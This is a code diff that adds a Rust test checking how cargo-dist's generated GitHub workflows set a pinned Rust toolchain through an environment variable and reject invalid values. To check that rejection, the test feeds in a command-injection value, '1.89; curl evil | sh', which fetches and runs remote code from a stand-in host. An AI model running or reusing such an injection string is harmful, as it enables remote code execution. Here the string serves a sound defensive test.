@@ -1381,3 +1381,54 @@ fn attestations_in_the_announce_job() {
         "{plan}"
     );
 }
+
+/// `rust-toolchain-version`: each job that runs this tool (plan, build, global) makes that
+/// toolchain rustup's default right after installing the tool, through an env var (never
+/// interpolated into the script); actionlint passes; a value rustup would not take is refused.
+#[test]
+fn rust_toolchain_version_is_the_default_toolchain_of_every_building_job() {
+    let body = |v: &str| {
+        format!("ci = [\"github\"]\ninstallers = [\"shell\"]\ntargets = [\"x86_64-unknown-linux-gnu\"]\nrust-toolchain-version = \"{v}\"\n")
+    };
+    let fx = dist_app("tc-app", "hello", &body("1.89.0"));
+    fx.ok(&["generate"]);
+    actionlint(&fx, "rust-toolchain-version");
+    let y = workflow_yaml(&fx);
+    assert_no_expression_in_run(&y);
+    for job in [
+        "plan",
+        "build-local-artifacts",
+        "build-global-artifacts",
+        "host",
+    ] {
+        let steps = y["jobs"][job]["steps"].as_vec().unwrap();
+        let names: Vec<&str> = steps.iter().filter_map(|s| s["name"].as_str()).collect();
+        let at = names
+            .iter()
+            .position(|n| n.contains("rust-toolchain-version"));
+        if job == "host" {
+            assert_eq!(at, None, "{job}: {names:?}");
+            continue;
+        }
+        let install = names
+            .iter()
+            .position(|n| *n == "Install cargo-dist")
+            .unwrap();
+        assert_eq!(at, Some(install + 1), "{job}: {names:?}");
+        let step = steps
+            .iter()
+            .find(|s| s["name"].as_str() == Some(names[at.unwrap()]))
+            .unwrap();
+        assert_eq!(step["env"]["TOOLCHAIN"].as_str(), Some("1.89.0"), "{job}");
+        assert!(step["run"]
+            .as_str()
+            .unwrap()
+            .contains("rustup default \"$TOOLCHAIN\""));
+    }
+    let fx = dist_app("tc-app", "hello", &body("1.89; curl evil | sh"));
+    let err = fx.fails(&["generate"], 1);
+    assert!(
+        err.contains("rust-toolchain-version") && err.contains("rustup toolchain name"),
+        "{err}"
+    );
+}
